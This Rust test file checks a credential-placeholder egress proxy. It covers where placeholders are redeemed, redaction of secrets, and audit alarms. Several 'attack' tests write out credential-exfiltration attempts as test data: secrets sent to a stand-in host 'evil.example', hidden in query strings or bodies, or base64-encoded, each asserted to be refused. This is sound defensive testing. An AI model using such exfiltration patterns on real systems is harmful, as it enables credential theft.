//! Placeholders: where they are redeemed, and that they are worth nothing elsewhere.

use crate::credentials::{NAMED, URL, connect};
use crate::server::answer;
use crate::world::{World, manifest_with, tight};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use secrecy::SecretString;
use sophon_audit::Action;
use sophon_egress::EgressSession;
use sophon_egress::{FieldValue, HttpError, HttpRequest, TokenRefused};
use sophon_skill::{Field, Manifest};
use sophon_types::{CorrelationId, Fault as _, Principal, Role, ServiceName};
use sophon_vault::{
    Asked, Attach, Binding, Callback, OauthParts, Owner, Placing, Started, Transport, TransportError, TransportRequest,
    TransportResponse, Way,
};
use std::collections::BTreeMap;

const TOKEN: &str = "ghp_5bNLqtirsqPaayJsR8x2Vd0TuQwEz";

fn opted_in() -> Manifest {
    manifest_with(NAMED, r#"[{"service":"github","scopes":["repo"],"required":false,"access":"scoped-token"}]"#)
}

async fn connected() -> World {
    let world = World::new(tight()).await;
    connect(&world, None, Attach::Bearer { field: "token".into() }, &[("token", TOKEN)]).await;
    world
}

fn with_header(url: &str, name: &str, value: &str) -> HttpRequest {
    let mut request = HttpRequest::new("GET", url);
    request.headers = vec![(name.to_owned(), value.as_bytes().to_vec())];
    request
}

fn code(result: Result<impl Sized, HttpError>) -> Option<&'static str> {
    result.err().map(|error| error.code())
}

#[tokio::test]
async fn attack_16_a_scoped_token_is_a_placeholder_that_only_egress_redeems() {
    let world = connected().await;
    let session = world.session(&opted_in(), &[]).await;
    let token = session.scoped_token("github").await.unwrap();
    assert_eq!(session.scoped_token("github").await.unwrap(), token, "one a run");
    assert!(!token.contains(TOKEN) && token.starts_with("sophon-ph-"), "{token}");

    // The server says back what it got; the skill does not learn what its placeholder stands for.
    world.script(|seen| answer(200, &[], format!("{:?}", seen.headers).as_bytes()));
    let response = session.send(with_header(URL, "Authorization", &format!("Bearer {token}"))).await.unwrap();
    let seen = world.cables.log.all().pop().unwrap();
    assert_eq!(seen.header("authorization"), Some(format!("Bearer {TOKEN}").as_str()));
    assert!(!String::from_utf8_lossy(&response.body).contains(TOKEN));
    assert!(session.secrets().find(TOKEN.as_bytes()).is_some());
    // In any header a credential may use, with anything around it, more than once.
    let twice = format!("a={token}; b={token}");
    session.send(with_header(URL, "X-Api-Key", &twice)).await.unwrap();
    let seen = world.cables.log.all().pop().unwrap();
    assert_eq!(seen.header("x-api-key"), Some(format!("a={TOKEN}; b={TOKEN}").as_str()));
    // In HTTP Basic, after decoding; the pair as it was sent is a secret too.
    let basic = format!("Basic {}", STANDARD.encode(format!("x-access-token:{token}")));
    let response = session.send(with_header(URL, "authorization", &basic)).await.unwrap();
    let pair = STANDARD.encode(format!("x-access-token:{TOKEN}"));
    let seen = world.cables.log.all().pop().unwrap();
    assert_eq!(seen.header("authorization"), Some(format!("Basic {pair}").as_str()));
    assert!(!String::from_utf8_lossy(&response.body).contains(&pair));

    let audit = world.audit_text().await;
    assert!(audit.contains("credential.token") && audit.contains("credential.use"), "{audit}");
    assert!(!audit.contains(&token) && !audit.contains(TOKEN));
}

#[tokio::test]
async fn attack_17_a_placeholder_goes_to_the_hosts_of_its_connection_only() {
    let world = connected().await;
    let session = world.session(&opted_in(), &[]).await;
    let token = session.scoped_token("github").await.unwrap();
    let bearer = format!("Bearer {token}");
    let sent = || world.cables.log.all().len();
    // A host that the manifest allows, but not for this credential.
    let elsewhere = with_header("https://other.example.com/x", "Authorization", &bearer);
    assert_eq!(code(session.send(elsewhere).await), Some("credential_not_allowed"));
    // Outside the values of header fields.
    let refused = |request| async { code(session.send(request).await) };
    assert_eq!(refused(HttpRequest::new("GET", format!("{URL}?t={token}"))).await, Some("placeholder_misplaced"));
    let mut body = HttpRequest::new("POST", URL);
    body.body = Some(Bytes::from(format!("{{\"t\":\"{token}\"}}")));
    assert_eq!(refused(body).await, Some("placeholder_misplaced"));
    for name in ["Content-Type", "Range", "Accept-Encoding"] {
        assert_eq!(refused(with_header(URL, name, &token)).await, Some("placeholder_misplaced"), "{name}");
    }
    // Beside something else that authorises.
    let mut beside = with_header(URL, "X-Api-Key", &token);
    beside.headers.push(("Cookie".into(), b"session=own".to_vec()));
    assert_eq!(refused(beside).await, Some("header_not_allowed"));
    assert_eq!(sent(), 0, "something of it left");

    // A redirect to another host takes nothing along.
    world.script(|seen| match seen.target() {
        "/x" => answer(302, &[("Location", "https://other.example.com/y")], b""),
        _ => answer(200, &[], b"there"),
    });
    session.send(with_header(URL, "Authorization", &bearer)).await.unwrap();
    let log = world.cables.log.all();
    assert_eq!(log[0].header("authorization"), Some(format!("Bearer {TOKEN}").as_str()));
    assert_eq!(log[1].header("authorization"), None);
}

#[tokio::test]
async fn attack_25_a_placeholder_of_another_run_is_refused() {
    let world = connected().await;
    let first = world.session(&opted_in(), &[]).await;
    let token = first.scoped_token("github").await.unwrap();
    let second = world.session(&opted_in(), &[]).await;
    assert_ne!(second.scoped_token("github").await.unwrap(), token);
    let bearer = format!("Bearer {token}");
    assert_eq!(code(second.send(with_header(URL, "Authorization", &bearer)).await), Some("placeholder_unknown"));
    let basic = format!("Basic {}", STANDARD.encode(format!("u:{token}")));
    assert_eq!(code(second.send(with_header(URL, "Authorization", &basic)).await), Some("placeholder_unknown"));
    let in_url = HttpRequest::new("GET", format!("{URL}?t={token}"));
    assert_eq!(code(second.send(in_url).await), Some("placeholder_unknown"));
    drop(first);
    assert!(world.cables.log.all().is_empty());
}

#[tokio::test]
async fn attack_17_the_whole_credential_is_not_attached_for_a_skill_that_declared_tokens() {
    let world = connected().await;
    let session = world.session(&opted_in(), &[]).await;
    let refused = session.send(crate::credentials::with_credential("GET", URL)).await.unwrap_err();
    assert_eq!(refused.code(), "credential_scoped");
    assert!(refused.hint().is_some_and(|hint| hint.contains("scoped-token")), "{refused}");
    // With a token in the request as well it is the token that goes.
    let token = session.scoped_token("github").await.unwrap();
    let mut both = with_header(URL, "X-Api-Key", &token);
    both.credential = Some("github".into());
    session.send(both).await.unwrap();
    let seen = world.cables.log.all();
    assert_eq!(seen.len(), 1, "nothing was sent before");
    assert_eq!((seen[0].header("x-api-key"), seen[0].header("authorization")), (Some(TOKEN), None));
}

/// Says of every form what an authorisation server says of it, and of an exchange that the token is narrow.
struct Exchanging;

#[async_trait::async_trait]
impl Transport for Exchanging {
    async fn send(&self, request: TransportRequest) -> Result<TransportResponse, TransportError> {
        let form = request.form.as_ref().map(|form| form.as_str()).unwrap_or_default();
        let body = if form.contains("token-exchange") {
            r#"{"access_token":"the-narrow-token","token_type":"Bearer","expires_in":300,
                "issued_token_type":"urn:ietf:params:oauth:token-type:access_token","scope":"repo"}"#
        } else {
            r#"{"access_token":"the-whole-token","refresh_token":"the-refresh-token","token_type":"Bearer","expires_in":3600}"#
        };
        Ok(TransportResponse { status: 200, body: body.as_bytes().to_vec().into() })
    }
}

#[tokio::test]
async fn attack_17_native_code_that_declared_tokens_has_those_and_no_field_of_the_connection() {
    let world = World::new(tight()).await;
    let github: ServiceName = "github".parse().unwrap();
    let section = serde_json::json!({"github": {
        "authorization_endpoint": "https://id.example.com/auth", "token_endpoint": "https://id.example.com/token",
        "client_id": "sophon", "scopes": ["repo", "admin"], "hosts": ["api.example.com"], "token_exchange": "always",
    }});
    let providers = serde_json::from_value(section).unwrap();
    let transport = std::sync::Arc::new(Exchanging);
    world.vault.serve_oauth(OauthParts { providers, client_secrets: BTreeMap::new(), transport }).unwrap();
    let actor = Principal { role: Role::Approver, ..world.principal() };
    let correlation = CorrelationId::from_bytes([4; 16]);
    let way = Way::Loopback("http://127.0.0.1:49152/callback/github".into());
    let asked = Asked { service: github.clone(), owner: Owner::User, way, scopes: None, correlation };
    let Started::Browser { url, .. } = world.vault.authorise(&actor, asked).await.unwrap() else { panic!() };
    let state = url.split("state=").nth(1).unwrap().split('&').next().unwrap();
    let (state, code) = (SecretString::from(state), Some("the-code".into()));
    let callback = Callback { service: Some(github.clone()), state, code, iss: None, error: None, correlation };
    world.vault.finish(Some(&actor), callback).await.unwrap();

    let sent = async |manifest: &Manifest| {
        let session = world.session(manifest, &[]).await;
        let fields = session.connection_fields(&github, &[]).await.unwrap().values;
        assert_eq!(fields.keys().collect::<Vec<_>>(), ["access_token"]);
        let bearer = format!("Bearer {}", fields["access_token"].text());
        session.send(with_header(URL, "Authorization", &bearer)).await.unwrap();
        world.cables.log.all().pop().unwrap().header("authorization").unwrap().to_owned()
    };
    // Under the one secret that a manifest declares too, because no manifest knows how the vault calls a token.
    let named = async |manifest: &Manifest, fields: &[&str]| {
        let session = world.session(manifest, &[]).await;
        let found = session.connection_fields(&github, &declared(fields)).await.unwrap().values;
        assert!(found.values().all(|value| *value == found["access_token"]), "{found:?}");
        found.into_keys().collect::<Vec<_>>()
    };
    for manifest in [opted_in(), crate::world::manifest(NAMED)] {
        assert_eq!(named(&manifest, &["token:secret", "base:url"]).await, ["access_token", "token"]);
        assert_eq!(named(&manifest, &["access_token:secret", "base:url"]).await, ["access_token"]);
        assert_eq!(named(&manifest, &["key:secret", "pin:secret"]).await, ["access_token"], "which one is not guessed");
    }
    assert_eq!(sent(&opted_in()).await, "Bearer the-narrow-token");
    assert_eq!(sent(&crate::world::manifest(NAMED)).await, "Bearer the-whole-token");
}

/// A skill that integrates `github` with these fields (`KEY:TYPE`), and names the service nowhere else.
fn integration(fields: &[&str]) -> Manifest {
    let listed: Vec<_> = fields
        .iter()
        .map(|field| {
            let (key, kind) = field.split_once(':').unwrap();
            serde_json::json!({"key": key, "type": kind})
        })
        .collect();
    let text = serde_json::json!({
        "name": "probe", "version": "1.0.0", "author": "A", "license": "MIT", "description": "d", "category": "utility",
        "runtime": "python", "entrypoint": "main.py", "integration": {"service": "github", "fields": listed},
        "tools": [{"name": "go", "description": "d", "riskLevel": "none", "parameters": {"type": "object"}}],
    });
    Manifest::parse(text.to_string().as_bytes()).unwrap()
}

fn declared(fields: &[&str]) -> Vec<Field> {
    integration(fields).integration.unwrap().fields
}

#[tokio::test]
async fn a_skill_that_only_integrates_a_service_sends_its_credential_to_the_granted_host() {
    let world = connected().await;
    let session = world.session(&integration(&["token:secret"]), &["api.example.com"]).await;
    let fields =
        session.connection_fields(&"github".parse().unwrap(), &declared(&["token:secret"])).await.unwrap().values;
    session.send(with_header(URL, "Authorization", &format!("Bearer {}", fields["token"].text()))).await.unwrap();
    let seen = world.cables.log.all().pop().unwrap();
    assert_eq!(seen.header("authorization"), Some(format!("Bearer {TOKEN}").as_str()));
}

#[tokio::test]
async fn attack_16_native_code_gets_the_fields_that_its_manifest_declares() {
    let (_world, session, _) = placed(&[], None).await;
    let got = async |fields: &[&str]| {
        let found = session.connection_fields(&"github".parse().unwrap(), &declared(fields)).await.unwrap().values;
        found.into_keys().collect::<Vec<_>>()
    };
    assert_eq!(got(&["secret:secret", "other:text"]).await, ["secret"]);
    assert_eq!(got(&["user:text"]).await, ["user"]);
    assert_eq!(got(&["other:text"]).await, [""; 0]);
    // A manifest that declares nothing of the connection asks for all of it.
    assert_eq!(got(&[]).await, ["secret", "user"]);
}

#[tokio::test]
async fn who_gets_no_token() {
    let world = World::new(tight()).await;
    let session = world.session(&opted_in(), &[]).await;
    assert_eq!(session.scoped_token("github").await, Err(TokenRefused::NotConnected("github".into())));
    assert_eq!(session.scoped_token("gitlab").await, Err(TokenRefused::Undeclared("gitlab".into())));
    connect(&world, None, Attach::Placeholders, &[("user", "ann-the-user"), ("password", "correct horse battery")])
        .await;
    let world_session = world.session(&crate::world::manifest(NAMED), &[]).await;
    assert!(matches!(world_session.scoped_token("github").await, Err(TokenRefused::NotAvailable(_))), "no opt-in");
    // Field by field, where the caller may name them.
    let github = "github".parse().unwrap();
    let user = session.placeholder(&github, Some("user")).await.unwrap();
    let password = session.placeholder(&github, Some("password")).await.unwrap();
    assert_ne!(user, password);
    assert!(matches!(session.placeholder(&github, Some("pin")).await, Err(TokenRefused::NotAvailable(_))));
    let basic = format!("Basic {}", STANDARD.encode(format!("{user}:{password}")));
    session.send(with_header(URL, "Authorization", &basic)).await.unwrap();
    let expected = format!("Basic {}", STANDARD.encode("ann-the-user:correct horse battery"));
    assert_eq!(world.cables.log.all()[0].header("authorization"), Some(expected.as_str()));
    // Which of two fields a placeholder without a name stands for is not guessed.
    let nameless = session.placeholder(&github, None).await.unwrap();
    assert_eq!(code(session.send(with_header(URL, "X-Api-Key", &nameless)).await), Some("credential_unfit"));
}

/// A secret with everything that an encoding has to deal with.
const SECRET: &str = "s3cr+et/with \"quotes\" & =%ü";

/// A connection with a secret that may stand in those places, a user's name, and a session in which both are handed out.
async fn placed(positions: &[&str], shape: Option<&str>) -> (World, EgressSession, String) {
    let world = World::new(tight()).await;
    let fields = BTreeMap::from([
        ("secret".to_owned(), SecretString::from(SECRET)),
        ("user".to_owned(), SecretString::from("ann")),
    ]);
    let placing = Placing {
        shape: shape.map(|shape| shape.parse().unwrap()),
        positions: positions.iter().map(|at| at.parse().unwrap()).collect(),
    };
    let binding = Binding {
        attach: Some(Attach::Placeholders),
        plain: ["user".to_owned()].into(),
        placeholders: BTreeMap::from([("secret".to_owned(), placing)]),
        ..Binding::default()
    };
    let actor = Principal { role: Role::Approver, ..world.principal() };
    world.vault.put(&actor, Owner::User, &"github".parse().unwrap(), fields, binding).await.unwrap();
    let session = world.session(&crate::world::manifest(NAMED), &[]).await;
    let fields = session.connection_fields(&"github".parse().unwrap(), &[]).await.unwrap().values;
    assert_eq!(fields["user"], FieldValue::Plain("ann".into()));
    let secret = fields["secret"].text().to_owned();
    (world, session, secret)
}

fn post(media_type: &str, body: String) -> HttpRequest {
    let mut request = HttpRequest::new("POST", URL);
    request.headers = vec![("Content-Type".into(), media_type.as_bytes().to_vec())];
    request.body = Some(Bytes::from(body));
    request
}

const QUOTED: &str = "s3cr%2Bet%2Fwith%20%22quotes%22%20%26%20%3D%25%C3%BC";
/// The same in a path, where fewer characters mean something.
const SEGMENT: &str = "s3cr+et%2Fwith%20%22quotes%22%20&%20=%25%C3%BC";
const FORM: &str = "application/x-www-form-urlencoded";

#[tokio::test]
async fn a_placeholder_is_swapped_where_the_connection_names_it_encoded_for_its_place() {
    let (world, session, secret) = placed(&["path", "query:key", "form:pass", "json:auth.pass"], None).await;
    world.script(|_| answer(200, &[], b"{}"));
    let seen = || world.cables.log.all().pop().unwrap();
    session.send(HttpRequest::new("GET", format!("https://api.example.com/hook/{secret}/send?a=%20b"))).await.unwrap();
    assert_eq!(seen().target(), format!("/hook/{SEGMENT}/send?a=%20b"));
    session.send(HttpRequest::new("GET", format!("{URL}?a=1&key={secret}&b=2"))).await.unwrap();
    assert_eq!(seen().target(), format!("/x?a=1&key={QUOTED}&b=2"));
    session.send(post(FORM, format!("user=ann&pass={secret}&x=+y"))).await.unwrap();
    assert_eq!(String::from_utf8(seen().body).unwrap(), format!("user=ann&pass={QUOTED}&x=+y"));
    let json = format!(r#"{{"n":12345678901234567890123, "auth" : {{"pass":"{secret}"}}}}"#);
    session.send(post("application/json", json)).await.unwrap();
    let expected = format!(r#"{{"n":12345678901234567890123, "auth" : {{"pass":{}}}}}"#, serde_json::json!(SECRET));
    assert_eq!(String::from_utf8(seen().body).unwrap(), expected);
    assert_eq!(seen().header("content-length"), Some(expected.len().to_string().as_str()));
    // Neither the answers nor the audit log show what it stands for.
    world.script(|seen| answer(200, &[("X-Back", seen.target()), ("Content-Type", FORM)], &seen.body));
    let echoed = session.send(HttpRequest::new("GET", format!("{URL}?key={secret}"))).await.unwrap();
    assert!(!format!("{:?} {:?}", echoed.headers, echoed.url).contains(QUOTED));
    let echoed = session.send(post(FORM, format!("pass={secret}"))).await.unwrap();
    assert!(!String::from_utf8_lossy(&echoed.body).contains(QUOTED), "{echoed:?}");
    let audit = world.audit_text().await;
    assert!(!audit.contains(QUOTED) && !audit.contains("s3cr"), "{audit}");
}

#[tokio::test]
async fn a_placeholder_in_its_shape_is_swapped_as_a_whole() {
    let (world, session, secret) = placed(&["query:key"], Some("pre-{}:fx")).await;
    assert!(secret.starts_with("pre-sophon-ph-") && secret.ends_with(":fx"));
    session.send(HttpRequest::new("GET", format!("{URL}?key={}", secret.replace(':', "%3A")))).await.unwrap();
    assert_eq!(world.cables.log.all()[0].target(), format!("/x?key={QUOTED}"));
    // Cut out of its shape it stands for nothing.
    let cut = HttpRequest::new("GET", format!("{URL}?key={}", secret.trim_end_matches(":fx")));
    assert_eq!(code(session.send(cut).await), Some("credential_unfit"));
    assert_eq!(world.cables.log.all().len(), 1);
}

#[tokio::test]
async fn attack_16_tokens_of_a_login_reach_the_skill_as_placeholders() {
    let (world, session, secret) = placed(&["form:client_secret"], None).await;
    const LIVE: &str = "at-0123456789/abcdef";
    world.script(|seen| match seen.method() {
        "POST" if String::from_utf8_lossy(&seen.body).contains("grant_type=client_credentials") => {
            let body = format!(r#"{{"access_token":"{LIVE}","token_type":"Bearer","expires_in":3600}}"#);
            answer(200, &[("Content-Type", "application/json"), ("X-Auth-Token", LIVE)], body.as_bytes())
        }
        _ => answer(200, &[], format!("{:?}", seen.headers).as_bytes()),
    });
    let login = post(FORM, format!("grant_type=client_credentials&client_secret={secret}"));
    let response = session.send(login).await.unwrap();
    let body: serde_json::Value = serde_json::from_slice(&response.body).unwrap();
    let token = body["access_token"].as_str().unwrap().to_owned();
    assert!(token.starts_with("sophon-ph-"), "{body}");
    assert_eq!((&body["token_type"], &body["expires_in"]), (&"Bearer".into(), &3600.into()));
    assert!(!format!("{response:?} {:?}", response.headers).contains(LIVE));
    // It works like any other placeholder, and what it stands for is redacted from what comes back.
    let echoed = session.send(with_header(URL, "Authorization", &format!("Bearer {token}"))).await.unwrap();
    let seen = world.cables.log.all().pop().unwrap();
    assert_eq!(seen.header("authorization"), Some(format!("Bearer {LIVE}").as_str()));
    assert!(!String::from_utf8_lossy(&echoed.body).contains(LIVE));
    // The same token is the same placeholder; another host, and another place, gets none of it.
    let again = post(FORM, format!("grant_type=client_credentials&client_secret={secret}"));
    let again = session.send(again).await.unwrap();
    assert!(String::from_utf8_lossy(&again.body).contains(&token));
    let sent = world.cables.log.all().len();
    let elsewhere = with_header("https://other.example.com/x", "Authorization", &format!("Bearer {token}"));
    assert_eq!(code(session.send(elsewhere).await), Some("credential_not_allowed"));
    let misplaced = post("application/json", format!(r#"{{"text":"{token}"}}"#));
    assert_eq!(code(session.send(misplaced).await), Some("placeholder_misplaced"));
    assert_eq!(world.cables.log.all().len(), sent);
    assert!(!world.audit_text().await.contains(LIVE));
}

#[tokio::test]
async fn attack_17_a_key_that_stands_twice_takes_no_secret_into_another_field() {
    let (world, session, secret) = placed(&["json:token"], None).await;
    let body =
        format!(r#"{{"comment":{{"body":"{secret}"}},"comment":{{}},"note":"\u0073ophon-ph-","token":"{secret}"}}"#);
    assert_eq!(code(session.send(post("application/json", body)).await), Some("placeholder_misplaced"));
    assert!(world.cables.log.all().is_empty());
}

#[tokio::test]
async fn attack_17_a_header_field_of_any_name_is_a_place_only_where_the_connection_says_so() {
    let (world, session, secret) = placed(&["header:x-hook"], None).await;
    for name in ["Content-Disposition", "Slug", "X-Amz-Meta-Token", "X-Note"] {
        assert_eq!(code(session.send(with_header(URL, name, &secret)).await), Some("placeholder_misplaced"), "{name}");
    }
    assert!(world.cables.log.all().is_empty());
    drop((world, session));
    // Nor is the field in which the host itself would attach it for another's.
    let world = World::new(tight()).await;
    let attach = Attach::Header { name: "X-Hook".into(), prefix: String::new(), field: "token".into() };
    connect(&world, None, attach, &[("token", TOKEN)]).await;
    let session = world.session(&opted_in(), &[]).await;
    let token = session.scoped_token("github").await.unwrap();
    session.send(with_header(URL, "X-Hook", &token)).await.unwrap();
    assert_eq!(world.cables.log.all().pop().unwrap().header("x-hook"), Some(TOKEN));
    assert_eq!(code(session.send(with_header(URL, "X-Note", &token)).await), Some("placeholder_misplaced"));
}

#[tokio::test]
async fn attack_16_what_a_login_returns_leaves_no_other_way() {
    let (world, session, secret) = placed(&["form:pass"], None).await;
    const TICKET: &str = "ST-0123456789abcdef";
    let login = || post(FORM, format!("pass={secret}"));
    // Neither JSON nor a form: it is not passed on, and the skill learns why.
    world.script(|_| answer(200, &[("Content-Type", "text/xml")], format!("<t>{TICKET}</t>").as_bytes()));
    let error = session.send(login()).await.unwrap_err();
    assert!(error.to_string().contains("neither JSON nor a form") && !error.to_string().contains(TICKET), "{error}");
    // Where a redirect leads is not told, and not gone to.
    world.script(|seen| match seen.target() {
        "/x" => answer(302, &[("Location", &format!("/there?ticket={TICKET}#access_token={TICKET}"))], b""),
        _ => answer(200, &[], TICKET.as_bytes()),
    });
    let before = world.cables.log.all().len();
    let mut manual = login();
    manual.redirects = sophon_egress::Redirects::Manual;
    let redirect = session.send(manual).await.unwrap();
    assert_eq!(redirect.status, 302);
    assert!(redirect.headers.iter().all(|(name, _)| name != "location"), "{:?}", redirect.headers);
    let error = session.send(login()).await.unwrap_err();
    assert!(error.to_string().contains("leads elsewhere") && !error.to_string().contains(TICKET), "{error}");
    assert_eq!(world.cables.log.all().len(), before + 2);
    // A request that is none goes on as ever.
    let ordinary = session.send(HttpRequest::new("GET", URL)).await.unwrap();
    assert_eq!(ordinary.body, TICKET);
}

#[tokio::test]
async fn attack_23_a_session_whose_call_is_over_sends_nothing_and_gives_nothing() {
    let world = connected().await;
    let session = world.session(&opted_in(), &[]).await;
    session.send(HttpRequest::new("GET", URL)).await.unwrap();
    // One that is on its way is dropped.
    let (sent, ()) = tokio::join!(session.send(HttpRequest::new("GET", URL)), async { session.close() });
    assert_eq!(sent.unwrap_err().denial().map(|denial| denial.code.into_owned()), Some("call_over".into()));
    let before = world.cables.log.all().len();
    assert_eq!(code(session.send(HttpRequest::new("GET", URL)).await), Some("call_over"));
    assert!(matches!(session.scoped_token("github").await, Err(TokenRefused::Host(_))));
    assert_eq!(world.cables.log.all().len(), before);
}

#[tokio::test]
async fn attack_23_requests_after_the_end_of_a_call_are_on_record_and_flood_nothing() {
    let (world, session, secret) = placed(&[], None).await;
    session.close();
    let denied = || async {
        let all = world.audited().await;
        let of_late = all.into_iter().map(|entry| entry.record).filter(|record| record["code"] == "call_over");
        of_late.collect::<Vec<_>>()
    };
    let good = with_header(URL, "Authorization", &format!("Bearer {secret}"));
    assert_eq!(code(session.send(good).await), Some("call_over"));
    let first = denied().await;
    assert_eq!(first.len(), 1, "{first:?}");
    assert_eq!(first[0]["action"], Action::EgressDenied.as_str(), "{first:?}");
    assert_eq!(first[0]["detail"]["host"], "api.example.com", "{first:?}");
    for _ in 0..500 {
        assert_eq!(code(session.send(HttpRequest::new("GET", "https://evil.example/x")).await), Some("call_over"));
    }
    assert_eq!(denied().await.len(), 1);
    drop(session);
    let all = denied().await;
    assert_eq!(all.len(), 2, "{all:?}");
    assert_eq!(all[1]["detail"]["count"], 500, "{all:?}");
    // Late is not astray.
    assert!(world.audited().await.iter().all(|entry| entry.record["action"] != Action::EgressAlarm.as_str()));
    assert!(world.cables.log.all().is_empty());
}

#[tokio::test]
async fn attack_17_a_placeholder_that_strays_raises_an_alarm() {
    let (world, session, secret) = placed(&[], None).await;
    let alarms = || async {
        world.audited().await.iter().filter(|e| e.record["action"] == Action::EgressAlarm.as_str()).count()
    };
    for (index, request) in [
        with_header("https://other.example.com/x", "Authorization", &format!("Bearer {secret}")),
        with_header("https://evil.example/x", "Authorization", &format!("Bearer {secret}")),
        HttpRequest::new("GET", format!("{URL}?q={secret}")),
        post("application/json", format!(r#"{{"text":"{}"}}"#, STANDARD.encode(&secret))),
        post("text/plain", format!("{}{}", "x".repeat(100_000), STANDARD.encode(&secret))),
    ]
    .into_iter()
    .enumerate()
    {
        assert!(session.send(request).await.is_err());
        assert_eq!(alarms().await, index + 1);
    }
    // An ordinary refusal is none.
    assert!(session.send(HttpRequest::new("GET", "https://evil.example/x")).await.is_err());
    assert_eq!(alarms().await, 5);
    assert!(world.cables.log.all().is_empty());
}

/// What of it authorises.
const HOOK_SECRET: &str = "abcDEF-0123456789xyz_tail";

/// A connection whose field is a URL as a whole, and what a skill gets for it.
async fn hooked(rules: &str, query: &str) -> (World, EgressSession, String) {
    let world = World::new(tight()).await;
    let hook = format!("https://api.example.com/hooks/123456789012345678/{HOOK_SECRET}{query}");
    let fields = BTreeMap::from([("hook".to_owned(), SecretString::from(hook))]);
    let placing = Placing { shape: None, positions: ["url".parse().unwrap()].into() };
    let binding = Binding { placeholders: BTreeMap::from([("hook".to_owned(), placing)]), ..Binding::default() };
    let actor = Principal { role: Role::Approver, ..world.principal() };
    world.vault.put(&actor, Owner::User, &"github".parse().unwrap(), fields, binding).await.unwrap();
    let session = world.session(&crate::world::manifest(rules), &[]).await;
    let fields = session.connection_fields(&"github".parse().unwrap(), &[]).await.unwrap().values;
    let hook = fields["hook"].text().to_owned();
    (world, session, hook)
}

fn posted(url: impl Into<String>) -> HttpRequest {
    let mut request = HttpRequest::new("POST", url);
    request.headers = vec![("Content-Type".into(), b"application/json".to_vec())];
    request.body = Some(Bytes::from_static(b"{\"content\":\"hello\"}"));
    request
}

#[tokio::test]
async fn attack_16_a_secret_that_is_a_url_is_a_placeholder_on_its_own_host() {
    for (own, asked, sent) in [
        ("", "", ""),
        ("", "?wait=true", "?wait=true"),
        ("?v=2", "", "?v=2"),
        ("?v=2", "?wait=true&a=%20", "?v=2&wait=true&a=%20"),
    ] {
        let (world, session, hook) = hooked(NAMED, own).await;
        assert!(hook.starts_with("https://api.example.com/sophon-ph-") && !hook.contains(HOOK_SECRET), "{hook}");
        // The other side says back where it was asked.
        world.script(|seen| answer(200, &[("Location", seen.target())], seen.target().as_bytes()));
        let response = session.send(posted(format!("{hook}{asked}"))).await.unwrap();
        let seen = world.cables.log.all().pop().unwrap();
        assert_eq!(seen.target(), format!("/hooks/123456789012345678/{HOOK_SECRET}{sent}"));
        assert_eq!(response.url, format!("{hook}{asked}"));
        assert!(!String::from_utf8_lossy(&response.body).contains(HOOK_SECRET), "{response:?}");
        assert!(response.headers.iter().all(|(_, value)| !String::from_utf8_lossy(value).contains(HOOK_SECRET)));
        assert!(session.secrets().find(HOOK_SECRET.as_bytes()).is_some());
        // An ordinary request to the same host holds nothing of it.
        session.send(HttpRequest::new("GET", "https://api.example.com/hooks/x")).await.unwrap();
        let audit = world.audit_text().await;
        assert!(!audit.contains(HOOK_SECRET) && audit.contains("credential.use"), "{audit}");
    }
}

#[tokio::test]
async fn attack_17_a_url_that_is_a_placeholder_is_sent_as_it_is_or_not_at_all() {
    let (world, session, hook) = hooked(NAMED, "").await;
    let core = hook.rsplit('/').next().unwrap();
    for url in [
        format!("{hook}/messages"),
        format!("{hook}/"),
        format!("{hook}/../x"),
        format!("https://api.example.com/x/{core}"),
        format!("https://api.example.com/x{core}"),
        format!("https://api.example.com/?to={core}"),
        format!("https://api.example.com//{core}"),
        format!("https://other.example.com/{core}"),
        format!("https://evil.example/{core}"),
        format!("http://api.example.com/{core}"),
        format!("https://api.example.com:8443/{core}"),
    ] {
        let error = session.send(posted(url.clone())).await.unwrap_err();
        assert_eq!(error.code(), "placeholder_misplaced", "{url}: {error}");
        assert!(error.hint().is_some_and(|hint| hint.contains("as it is")), "{url}");
    }
    let mut body = posted(URL);
    body.body = Some(Bytes::from(format!("{{\"content\":\"{hook}\"}}")));
    assert_eq!(code(session.send(body).await), Some("placeholder_misplaced"));
    assert!(world.cables.log.all().is_empty());
    // Connected anew, it is another secret, and nothing that was checked before is sent.
    let fields = BTreeMap::from([(
        "hook".to_owned(),
        SecretString::from("https://api.example.com/admin/another-0123456789-secret"),
    )]);
    let placing = Placing { shape: None, positions: ["url".parse().unwrap()].into() };
    let binding = Binding { placeholders: BTreeMap::from([("hook".to_owned(), placing)]), ..Binding::default() };
    let actor = Principal { role: Role::Approver, ..world.principal() };
    world.vault.put(&actor, Owner::User, &"github".parse().unwrap(), fields, binding).await.unwrap();
    assert_eq!(code(session.send(posted(&hook)).await), Some("credential_unfit"));
    assert!(world.cables.log.all().is_empty());
}

#[tokio::test]
async fn attack_12_rules_hold_for_the_url_that_is_sent_and_not_for_its_placeholder() {
    let rule = |more: &str| format!(r#"[{{"host":"api.example.com","credential":"github",{more}}}]"#);
    let (world, session, hook) = hooked(&rule(r#""methods":["POST"],"paths":["/hooks/*"]"#), "").await;
    session.send(posted(&hook)).await.unwrap();
    assert_eq!(world.cables.log.all().len(), 1);
    assert_eq!(code(session.send(HttpRequest::new("GET", &hook)).await), Some("method_not_allowed"));
    for (more, expected) in
        [(r#""paths":["/other/*"]"#, "path_not_allowed"), (r#""methods":["GET"]"#, "method_not_allowed")]
    {
        let (world, session, hook) = hooked(&rule(more), "").await;
        let error = session.send(posted(&hook)).await.unwrap_err();
        assert_eq!(error.code(), expected, "{error}");
        let said = format!("{error} {:?}", error.hint());
        assert!(!said.contains(HOOK_SECRET) && !said.contains("123456789012345678"), "{said}");
        assert!(world.cables.log.all().is_empty());
        assert!(!world.audit_text().await.contains(HOOK_SECRET));
    }
}
